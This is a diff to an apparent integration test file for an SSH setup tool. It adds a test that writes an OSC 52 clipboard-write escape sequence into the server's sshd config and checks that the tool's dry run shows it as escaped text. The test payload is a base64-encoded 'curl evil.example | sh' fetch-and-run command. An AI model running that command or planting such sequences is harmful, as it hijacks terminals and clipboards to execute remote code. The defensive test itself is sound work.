@@ -2,6 +2,8 @@
 // once a fresh login on 2222 works, the firewall rules for 22 (rate-limited allow and break-glass)
 // are removed under a dead-man switch. A rerun changes nothing; a server an older run left with the
 // port-22 rules gets them removed by the rerun. Stops before "fail2ban" (nothing later depends on it).
+// Last, the live dry run through the real binary: a server file holding an OSC 52 clipboard write
+// prints as text (src/core/terminal-text.ts).
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ensureImage, testhostUnavailableReason } from './testhost/testhost.js';
 import { armedTimers, buildCli, look, rig, runCli, sshFresh, stepStatuses, SUDO_PW, teardown, type Rig } from './rollout-kit.js';
@@ -84,5 +86,23 @@ describe.skipIf(unavailable !== null)(`a port move closes the old port${unavaila
     expect(rules).toMatch(new RegExp(`port ${NEW_PORT}\\b.*claw-setup break-glass`));
     expect(sshFresh(x, 'deploy', 'true', { extra: onNew }).status).toBe(0);
     expect(armedTimers(x)).toBe('');
+  });
+
+  it('the live dry run shows a file on the server that holds an OSC 52 clipboard write as text, not as a sequence', async () => {
+    const x = need();
+    const dropIn = '/etc/ssh/sshd_config.d/00-claw-setup.conf';
+    const saved = look(x, `cat ${dropIn}`);
+    const payload = Buffer.from('curl evil.example | sh').toString('base64');
+    look(x, `printf '# \\033]52;c;%s\\007 \\033[2K\\n' '${payload}' >> ${dropIn}`);
+    expect(look(x, `cat ${dropIn}`)).toContain('\x1b]52;c;');
+    try {
+      const dry = await runCli(x, ['--dry-run']);
+      expect(dry.code, `${dry.stdout}\n${dry.stderr}`).toBe(0);
+      expect(dry.stdout).toContain(`-# \\u001b]52;c;${payload}\\u0007 \\u001b[2K`);
+      expect(dry.stdout + dry.stderr).not.toMatch(/[\x07\x1b\x9b]/);
+    } finally {
+      look(x, `printf '%s' '${saved.replace(/'/g, "'\\''")}' > ${dropIn}`);
+    }
+    expect(look(x, `cat ${dropIn}`)).toBe(saved);
   });
 });
